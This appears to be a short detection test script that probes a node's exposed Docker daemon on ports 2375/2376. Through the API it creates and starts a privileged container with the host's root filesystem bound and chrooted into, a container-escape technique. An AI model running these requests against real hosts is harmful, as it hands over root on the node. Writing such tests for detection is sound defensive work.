# category: container-escape
# technique: T1610
# art: no
# expect: container-runtime-socket
# image: debian
# net: yes
# desc: a pod looks for a Docker daemon exposed on its node's network (tcp 2375, and 2376 with TLS) and asks it to create and start a privileged container with the node's / bound in, the cryptojacking botnets' way in (no daemon listens on the test host: the connections are refused)
node=$(ip route | awk '/^default/ {print $3; exit}')
node=${node:-$C2}
echo "node: $node"
curl -s -m 3 "http://$node:2375/version" || echo "2375/version: $?"
curl -sk -m 3 "https://$node:2376/version" || echo "2376/version: $?"
curl -s -m 3 -X POST -H 'Content-Type: application/json' \
  -d '{"Image":"alpine","Cmd":["chroot","/host","sh","-c","id"],"HostConfig":{"Privileged":true,"PidMode":"host","Binds":["/:/host"]}}' \
  "http://$node:2375/containers/create?name=node-shell" || echo "2375/containers/create: $?"
curl -s -m 3 -X POST "http://$node:2375/containers/node-shell/start" || echo "2375/start: $?"
